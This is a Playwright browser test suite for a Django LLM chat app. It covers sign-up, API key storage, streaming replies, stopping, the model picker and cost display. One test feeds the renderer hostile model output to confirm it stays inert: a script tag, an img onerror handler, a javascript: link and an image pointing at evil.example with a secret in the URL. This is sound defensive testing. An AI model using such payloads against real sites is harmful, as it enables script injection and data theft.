"""A person in Chromium, against the ASGI server and the mock provider:
sign up, add a key, chat, reload, stop, survive hostile output, delete."""

from typing import Any

import pytest

from conftest import PASSWORD as FIXTURE_PASSWORD
from conftest import make_user
from conversations.models import Conversation, Message
from llmchat.tests.browser import asgi_page, screenshot

__all__ = ["asgi_page"]

PASSWORD = "a long and private passphrase"
KEY = "sk-proj-Browser0000000000000000000000wxyz"

XSS_REPLY = (
    "Here you go: <script>window.__xss = 1</script> "
    '<img src=x onerror="window.__xss = 2"> '
    "[click me](javascript:window.__xss=3) "
    "![exfil](https://evil.example/pixel.png?secret=hunter2) "
    "and some `code` plus **bold**."
)


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_a_person_chats_with_a_model(asgi_page: Any, mock_provider: Any, prices: None) -> None:
    page = asgi_page
    page.on(
        "dialog",
        lambda dialog: (
            dialog.accept("Renamed chat") if dialog.type == "prompt" else dialog.accept()
        ),
    )

    # Sign up.
    page.goto("/accounts/signup/")
    page.fill("input[name=email]", "sam@example.com")
    page.fill("input[name=password1]", PASSWORD)
    page.fill("input[name=password2]", PASSWORD)
    page.click("main button[type=submit]")
    page.wait_for_url("**/")

    # Add an OpenAI key (OPENAI_BASE_URL points at the mock provider).
    page.click("nav >> text=Keys")
    card = page.locator("#key-openai")
    card.locator("input[name=key]").fill(KEY)
    card.get_by_role("button", name="Save").click()
    page.get_by_text("Saved your OpenAI key").wait_for()

    # Chat: the reply streams in, then shows its tokens and cost.
    mock_provider.configure(
        reply="Tokens are **pieces** of words.",
        input_tokens=1200,
        cached_tokens=200,
        # Slow enough (about a second) for the page to be seen while streaming.
        tokens_per_second=5,
    )
    page.click("nav >> text=Chat")
    page.select_option("#model-picker", "openai|gpt-4o")
    page.fill("#message-input", "What is a token?")
    page.keyboard.press("Enter")
    streaming = page.locator(".message-assistant .message-body.streaming")
    streaming.wait_for()
    assert page.locator("#stop-button").is_visible()
    page.locator(".message-assistant .meta-cost").wait_for()
    reply = page.locator(".message-assistant").last
    assert reply.locator("strong").inner_text() == "pieces"
    meta = reply.locator(".message-meta").inner_text()
    assert "1,200 in (200 cached)" in meta
    assert "5 out" in meta
    # gpt-4o: 1000*2.5 + 200*1.25 + 5*10 = 2800 per 1M
    assert "$0.0028" in meta
    # The total is fetched once the reply is saved.
    page.locator("#conversation-total", has_text="$0.0028").wait_for()
    assert page.url.endswith(f"/c/{Conversation.objects.get().pk}/")
    screenshot(page, "chat")

    # Reload: the history is there.
    page.reload()
    assert page.locator(".message-user").inner_text() == "What is a token?"
    assert page.locator(".message-assistant strong").inner_text() == "pieces"

    # Stop mid-reply keeps the partial reply.
    mock_provider.configure(reply=None, reply_tokens=300, tokens_per_second=15)
    page.fill("#message-input", "Tell me more")
    page.click("#send-button")
    page.locator(".message-assistant .message-body.streaming").wait_for()
    body = page.locator(".message-assistant").last.locator(".message-body")
    for _ in range(200):  # (wait_for_function would need eval, which our CSP forbids)
        if len(body.text_content() or "") > 30:
            break
        page.wait_for_timeout(25)
    page.click("#stop-button")
    page.locator(".message-assistant.status-stopped").wait_for()
    # The server saves the partial reply as soon as it sees the disconnect.
    for _ in range(100):
        stopped = Message.objects.filter(role="assistant", status="stopped").first()
        if stopped is not None:
            break
        page.wait_for_timeout(50)
    assert stopped is not None
    assert stopped.content.startswith("You said: Tell me more")
    page.reload()
    assert page.locator(".message-assistant.status-stopped .badge", has_text="stopped").count() == 1

    # Hostile model output renders inert and loads nothing external.
    mock_provider.configure(reply=XSS_REPLY, tokens_per_second=0)
    page.fill("#message-input", "Say something nasty")
    page.click("#send-button")
    last = page.locator(".message-assistant").last
    last.locator(".meta-cost").wait_for()
    assert page.evaluate("window.__xss") is None
    assert last.locator("img").count() == 0
    assert last.locator("script").count() == 0
    exfil = last.locator("a", has_text="exfil")
    assert exfil.get_attribute("href") == "https://evil.example/pixel.png?secret=hunter2"
    assert exfil.get_attribute("rel") == "noopener noreferrer nofollow"
    assert last.locator("a[href^='javascript']").count() == 0
    page.reload()
    assert page.evaluate("window.__xss") is None
    assert page.locator(".message-assistant img").count() == 0

    # Rename, then delete.
    page.click("[data-action=rename]")
    page.locator("#chat-title", has_text="Renamed chat").wait_for()
    page.click("[data-action=delete]")
    page.wait_for_url(lambda url: "/c/" not in url)
    assert not Conversation.objects.exists()
    assert page.locator("#conversation-list li[data-id]").count() == 0

    assert page.csp_violations == []
    assert page.external_requests == []


def sign_in(page: Any, user: Any) -> None:
    page.goto("/accounts/login/")
    page.fill("input[name=login]", user.email)
    page.fill("input[name=password]", FIXTURE_PASSWORD)
    page.click("main button[type=submit]")
    page.wait_for_url("**/")


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_a_missing_key_is_a_banner_with_a_link_and_nothing_is_lost(
    asgi_page: Any, mock_provider: Any, prices: None, settings: Any
) -> None:
    settings.OPENAI_API_KEY = "sk-server-only-for-the-picker-00000"
    page = asgi_page
    sign_in(page, make_user("lee@example.com"))
    # The server key makes OpenAI available in the picker; then the operator
    # turns server keys off before the message is sent.
    page.select_option("#model-picker", "openai|gpt-4o")
    settings.ALLOW_SERVER_KEYS = False
    page.fill("#message-input", "Will this be lost?")
    page.click("#send-button")
    banner = page.locator("#banner")
    banner.wait_for()
    assert "keys page" in banner.inner_text()
    assert banner.locator("a").get_attribute("href") == "/keys/"
    assert page.input_value("#message-input") == "Will this be lost?"
    assert page.locator(".message").count() == 0


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_picker_shows_what_the_provider_lists_beyond_the_price_table(
    asgi_page: Any, mock_provider: Any, prices: None, settings: Any
) -> None:
    from providers import keys

    settings.ANTHROPIC_API_KEY = "sk-ant-server-key-for-the-picker-000"
    user = make_user("kim@example.com")
    keys.provider_key_save(user=user, provider="openai", key=KEY)
    page = asgi_page
    sign_in(page, user)
    # The user's own OpenAI key, no budget: an unpriced model may be used.
    own = page.locator('#model-picker option[value="openai|gpt-mock-mini"]')
    own.wait_for(state="attached")
    assert own.inner_text() == "gpt-mock-mini — unpriced"
    assert own.is_enabled()
    # The server's Anthropic key: it may not, and the option says why.
    server = page.locator('#model-picker option[value="anthropic|claude-mock"]')
    server.wait_for(state="attached")
    assert server.inner_text() == "claude-mock — unpriced (needs a price)"
    assert server.is_disabled()
    assert "server's key must be priced" in (server.get_attribute("title") or "")

    mock_provider.configure(reply="Unpriced but answered.")
    page.select_option("#model-picker", "openai|gpt-mock-mini")
    page.fill("#message-input", "Hello?")
    page.keyboard.press("Enter")
    reply = page.locator(".message-assistant").last
    reply.locator(".badge", has_text="unpriced").wait_for()
    # Reloaded, the conversation's model is still the one selected.
    page.reload()
    assert page.input_value("#model-picker") == "openai|gpt-mock-mini"


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_a_reply_goes_on_through_a_reload_and_its_cost_shows(
    asgi_page: Any, mock_provider: Any, prices: None
) -> None:
    from providers import keys

    page = asgi_page
    user = make_user("rita@example.com")
    keys.provider_key_save(user=user, provider="openai", key=KEY)
    mock_provider.configure(reply_tokens=40, tokens_per_second=10, input_tokens=100)  # ~4 s
    page.goto("/accounts/login/")
    page.fill("input[name=login]", "rita@example.com")
    page.fill("input[name=password]", FIXTURE_PASSWORD)
    page.click("main button[type=submit]")
    page.wait_for_url("**/")
    page.select_option("#model-picker", "openai|gpt-4o")
    page.fill("#message-input", "Keep going")
    page.keyboard.press("Enter")
    page.locator(".message-assistant .message-body.streaming").wait_for()
    body = page.locator(".message-assistant .message-body")
    for _ in range(100):  # (the page's CSP allows no evaluated script to wait with)
        if len(body.inner_text()) > 20:
            break
        page.wait_for_timeout(50)
    page.reload()  # mid-reply: the page follows the reply again from the server
    assert Message.objects.get(role="assistant").status == "generating"
    page.locator(".message-assistant .meta-cost").wait_for(timeout=15_000)
    reply = Message.objects.get(role="assistant")
    assert reply.status == "complete"
    shown = page.locator(".message-assistant .raw-content").evaluate("t => t.content.textContent")
    assert shown == reply.content
    assert page.locator(".message-assistant").count() == 1
    screenshot(page, "reattached")
